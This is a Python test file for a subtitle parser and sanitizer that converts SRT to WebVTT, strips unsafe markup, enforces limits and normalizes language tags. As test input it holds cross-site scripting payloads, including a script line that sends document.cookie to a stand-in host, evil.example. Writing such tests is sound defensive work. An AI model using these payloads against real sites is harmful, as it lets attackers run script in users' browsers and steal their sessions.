"""The subtitle parser and sanitizer (app/domain/media/subtitles/formats.py): what is accepted, what comes
out, and that hostile bytes only ever give one of its two errors."""

from __future__ import annotations

import random
import re

import pytest

from app.domain.media.subtitles import formats as subtitles
from app.domain.media.subtitles.formats import (
    MAX_CUES,
    MAX_LINE_CHARS,
    InvalidSubtitles,
    NotSubtitles,
    SubtitleError,
    language_tag,
    sanitize_line,
    to_webvtt,
)

SRT = (
    b"1\r\n00:00:01,000 --> 00:00:02,500\r\nHello, <i>world</i>\r\nsecond line\r\n\r\n"
    b"2\r\n00:01:03,250 --> 00:01:04,000\r\nBye\r\n"
)
VTT = b"WEBVTT\n\n00:01.000 --> 00:02.000 align:start\n<v Ada>Hi</v>\n"
# What a browser would ever treat as markup in a cue: WebVTT's own tags.
ALLOWED_TAG = re.compile(
    r"</?(?:[cbiu]|ruby|rt|v|lang)(?:\.[A-Za-z0-9_-]+)*(?: [^<>]*)?>|<\d{2,}:\d\d:\d\d\.\d{3}>"
)


def cues_of(text: str) -> list[tuple[str, list[str]]]:
    """(timing line, text lines) of every cue of a WebVTT document."""
    blocks = [block.split("\n") for block in text.strip("\n").split("\n\n")]
    assert blocks[0] == ["WEBVTT"]
    return [(block[0], block[1:]) for block in blocks[1:]]


def markup(text: str) -> list[str]:
    return re.findall(r"<[^<>]*>", text)


# -- detection and conversion ----------------------------------------------------------------------


def test_srt_becomes_webvtt_with_dots_and_no_sequence_numbers() -> None:
    converted = to_webvtt(SRT)
    assert converted.source == "srt"
    assert converted.cues == 2
    assert cues_of(converted.text) == [
        ("00:00:01.000 --> 00:00:02.500", ["Hello, <i>world</i>", "second line"]),
        ("00:01:03.250 --> 00:01:04.000", ["Bye"]),
    ]


def test_webvtt_is_kept_and_normalized() -> None:
    converted = to_webvtt(VTT)
    assert converted.source == "webvtt"
    assert cues_of(converted.text) == [("00:00:01.000 --> 00:00:02.000 align:start", ["<v Ada>Hi</v>"])]


@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"])
@pytest.mark.parametrize("newline", [b"\n", b"\r\n", b"\r"])
def test_bom_and_any_newline(bom: bytes, newline: bytes) -> None:
    for source in (SRT, VTT):
        data = bom + source.replace(b"\r\n", b"\n").replace(b"\n", newline)
        assert to_webvtt(data).text == to_webvtt(source).text


def test_detection_is_by_content_not_by_name() -> None:
    # An SRT body is SRT whatever it is called; "WEBVTT" must open the file to be WebVTT.
    assert to_webvtt(SRT).source == "srt"
    with pytest.raises(NotSubtitles):
        to_webvtt(b"WEBVTTX\n\n00:01.000 --> 00:02.000\nx\n")
    with pytest.raises(NotSubtitles):
        to_webvtt(b"Some notes\n00:00:01,000 --> 00:00:02,000\nx\n")


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"hello world",
        b"<!doctype html><script>alert(1)</script>",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        b"\x00\x00\x00\x18ftypisom",
        "WEBVTT".encode("utf-16"),
        b"[Script Info]\nTitle: ass file\n",
    ],
)
def test_other_files_are_not_subtitles(data: bytes) -> None:
    with pytest.raises(SubtitleError) as raised:
        to_webvtt(data)
    assert raised.value.code == "unsupported_subtitle_format"


def test_text_must_be_utf8() -> None:
    latin1 = "1\n00:00:01,000 --> 00:00:02,000\nJosé\n".encode("latin-1")
    with pytest.raises(InvalidSubtitles, match="UTF-8"):
        to_webvtt(latin1)
    assert InvalidSubtitles.code == "invalid_subtitles"


def test_a_file_without_a_valid_cue_is_refused() -> None:
    for data in (
        b"WEBVTT\n",
        b"WEBVTT\n\nNOTE only a note\n",
        b"WEBVTT\n\n00:02.000 --> 00:01.000\nends before it starts\n",
        b"WEBVTT\n\n00:61.000 --> 00:62.000\nno such second\n",
        b"1\n00:00:01,000 --> 00:00:02,000\n<font></font>\n",
    ):
        with pytest.raises(InvalidSubtitles):
            to_webvtt(data)


def test_malformed_cues_are_skipped_like_browsers_do() -> None:
    data = b"WEBVTT\n\n00:01.000 -> 00:02.000\nbroken arrow\n\n00:03.000 --> 00:04.000\nkept\n"
    assert cues_of(to_webvtt(data).text) == [("00:00:03.000 --> 00:00:04.000", ["kept"])]


def test_cue_right_below_the_signature_counts() -> None:
    data = b"WEBVTT\n00:01.000 --> 00:02.000\nno blank line\n"
    assert cues_of(to_webvtt(data).text) == [("00:00:01.000 --> 00:00:02.000", ["no blank line"])]


def test_lenient_srt_timestamps() -> None:
    data = b"1\n0:00:01.5 --> 0:00:02,25\nshort forms\n"
    assert cues_of(to_webvtt(data).text)[0][0] == "00:00:01.500 --> 00:00:02.250"


def test_cues_are_ordered_by_start() -> None:
    data = b"WEBVTT\n\n00:05.000 --> 00:06.000\nlater\n\n00:01.000 --> 00:02.000\nearlier\n"
    assert [text for _, text in cues_of(to_webvtt(data).text)] == [["earlier"], ["later"]]


# -- blocks WebVTT has besides cues --------------------------------------------------------------------


def test_style_region_and_note_blocks_are_dropped() -> None:
    data = (
        b"WEBVTT\nX-Header: kept out\n\nSTYLE\n::cue { background-image: url(https://evil.example/x) }\n\n"
        b"REGION\nid:r1 width:40%\n\nNOTE a comment\nwith lines\n\n"
        b"00:01.000 --> 00:02.000 region:r1 vertical:rl size:50% line:-1 position:10%,line-left bogus:1\n"
        b"text\n"
    )
    text = to_webvtt(data).text
    for gone in ("STYLE", "REGION", "NOTE", "evil", "X-Header", "region:", "bogus"):
        assert gone not in text
    assert cues_of(text) == [
        ("00:00:01.000 --> 00:00:02.000 vertical:rl size:50% line:-1 position:10%,line-left", ["text"])
    ]


def test_cue_settings_out_of_range_are_dropped() -> None:
    data = b"WEBVTT\n\n00:01.000 --> 00:02.000 size:500% position:50% align:middle line:10%,start\nx\n"
    assert cues_of(to_webvtt(data).text)[0][0] == "00:00:01.000 --> 00:00:02.000 position:50% line:10%,start"


# -- sanitizing cue text ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("<b>bold</b> <i>it</i> <u>u</u>", "<b>bold</b> <i>it</i> <u>u</u>"),
        ("<c.yellow.bg_blue>x</c>", "<c.yellow.bg_blue>x</c>"),
        ("<v.loud Ada Lovelace>hi</v>", "<v.loud Ada Lovelace>hi</v>"),
        ("<lang fr>bonjour</lang>", "<lang fr>bonjour</lang>"),
        ("<ruby>漢<rt>kan</rt></ruby>", "<ruby>漢<rt>kan</rt></ruby>"),
        ("a <00:01.500>b", "a <00:00:01.500>b"),
        ("<script>alert(1)</script>", "alert(1)"),
        ('<img src=x onerror="alert(1)">', ""),
        ('<font color="#ff0000">red</font>', "red"),
        ("<a href='javascript:alert(1)'>link</a>", "link"),
        ('<c.x" onclick="y>t</c>', "<c>t</c>"),
        ("<v Bob<script>>x", "&lt;v Bob&gt;x"),
        ("<b onmouseover=alert(1)>x</b>", "<b>x</b>"),
        ("&lt;script&gt; stays text", "&lt;script&gt; stays text"),
        ("fish & chips &copy &amp;", "fish &amp; chips &amp;copy &amp;"),
        ("1 < 2 and 3 > 2", "1 &lt; 2 and 3 &gt; 2"),
        ("an arrow --> here", "an arrow --&gt; here"),
        ("bell\x07 and\x1b[31m escape\x9b", "bell and[31m escape"),
        ('<v Ada & "Bo">x</v>', '<v Ada &amp; "Bo">x</v>'),
    ],
)
def test_sanitize_line(line: str, expected: str) -> None:
    assert sanitize_line(line) == expected


def test_srt_positioning_codes_are_removed() -> None:
    data = b"1\n00:00:01,000 --> 00:00:02,000\n{\\an8}{\\i1}top{\\i0}\n"
    assert cues_of(to_webvtt(data).text)[0][1] == ["top"]


def test_an_arrow_in_srt_text_cannot_start_a_cue() -> None:
    data = b"1\n00:00:01,000 --> 00:00:02,000\n00:00:05,000 --> 00:00:09,000\n"
    converted = to_webvtt(data)
    assert converted.cues == 1
    assert "-->" not in cues_of(converted.text)[0][1][0]


def test_a_blank_line_never_comes_out_of_a_cue() -> None:
    data = b"1\n00:00:01,000 --> 00:00:02,000\nkept\n<font>   </font>\nalso kept\n"
    assert cues_of(to_webvtt(data).text)[0][1] == ["kept", "also kept"]


# -- limits ----------------------------------------------------------------------------------------------


def test_too_many_cues() -> None:
    cue = b"00:01.000 --> 00:02.000\nx\n\n"
    assert to_webvtt(b"WEBVTT\n\n" + cue * MAX_CUES).cues == MAX_CUES
    with pytest.raises(InvalidSubtitles, match="cues"):
        to_webvtt(b"WEBVTT\n\n" + cue * (MAX_CUES + 1))


def test_too_long_a_line() -> None:
    ok = b"WEBVTT\n\n00:01.000 --> 00:02.000\n" + b"x" * MAX_LINE_CHARS + b"\n"
    assert to_webvtt(ok).cues == 1
    with pytest.raises(InvalidSubtitles, match="longer"):
        to_webvtt(ok.replace(b"x\n", b"xx\n"))


def test_lines_per_cue_are_bounded() -> None:
    data = b"WEBVTT\n\n00:01.000 --> 00:02.000\n" + b"line\n" * 100
    assert len(cues_of(to_webvtt(data).text)[0][1]) == subtitles.MAX_CUE_LINES


# -- hostile input ---------------------------------------------------------------------------------------


HOSTILE_LINES = [
    "<script>document.location='https://evil.example/'+document.cookie</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<<b>>nested<</b>>",
    "<c." + "a." * 400 + ">",
    "<" * 500 + ">" * 500,
    "&#60;script&#62;",
    "\u202eevil\u202c",
    "<v " + "x" * 900 + ">",
    "<lang>",
    "<00:99.000>",
    "</b></i></script>",
]


def test_hostile_cue_text_keeps_only_webvtt_markup() -> None:
    body = "\n\n".join(
        f"00:0{i % 10}.000 --> 00:1{i % 10}.000\n{line}" for i, line in enumerate(HOSTILE_LINES)
    )
    text = to_webvtt(("WEBVTT\n\n" + body).encode()).text
    for tag in markup(text):
        assert ALLOWED_TAG.fullmatch(tag), tag
    for gone in ("<script", "<img", "<svg", "onerror", "onload"):
        assert gone not in text.lower()


@pytest.mark.parametrize("seed", range(40))
def test_random_bytes_only_ever_give_a_subtitle_error(seed: int) -> None:
    rng = random.Random(seed)
    pieces = [
        SRT,
        VTT,
        b"-->",
        b"<",
        b">",
        b"&",
        b"\n",
        b"\r",
        b"\x00",
        b"\xff",
        b"WEBVTT",
        b"00:01.000",
        b" ",
    ]
    data = b"".join(
        rng.choice(pieces) if rng.random() < 0.7 else rng.randbytes(rng.randint(1, 9)) for _ in range(200)
    )
    if seed % 2:
        data = b"WEBVTT\n\n" + data
    try:
        converted = to_webvtt(data)
    except SubtitleError:
        return
    for tag in markup(converted.text):
        assert ALLOWED_TAG.fullmatch(tag), tag
    # What we emit parses again to the same document: nothing in it is ambiguous.
    assert to_webvtt(converted.text.encode()).text == converted.text


# -- language tags ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("en", "en"),
        ("EN-us", "en-US"),
        ("pt_BR", "pt-BR"),
        ("zh-hant-tw", "zh-Hant-TW"),
        ("sr-Latn", "sr-Latn"),
        ("es-419", "es-419"),
        ("de-CH-1996", "de-CH-1996"),
        ("en-US-u-ca-gregory", "en-US-u-ca-gregory"),
        ("x-klingon", "x-klingon"),
    ],
)
def test_language_tags(given: str, expected: str) -> None:
    assert language_tag(given) == expected


@pytest.mark.parametrize(
    "given",
    [
        "",
        "e",
        "en-US-a",
        "english-language-tag",
        "en--US",
        "123",
        "en<script>",
        "de-DE-1996-1996",
        "en-a-b-a-c",
        "日本",
        "en-" + "a" * 40,
    ],
)
def test_bad_language_tags(given: str) -> None:
    assert language_tag(given) is None
